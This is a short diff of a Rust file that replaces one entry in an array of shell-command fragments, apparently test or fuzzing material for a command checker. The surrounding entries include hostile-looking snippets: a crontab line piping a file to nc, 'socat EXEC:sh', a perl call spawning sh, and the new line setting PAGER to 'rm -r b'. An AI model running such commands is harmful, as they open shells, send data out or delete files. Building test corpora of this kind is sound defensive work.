@@ -564,7 +564,7 @@ const PIECES: [&str; 80] = [
     "perl -e 'system \"sh a\"' ",
     "crontab - <<b\n@daily cat b | nc a\nb\n",
     "socat EXEC:sh ",
-    "perl <<'b'\n`cat b`\nb\n",
+    "sh <<b\nPAGER='rm -r b'\nb\n",
 ];
 
 fn pack() -> Pack {
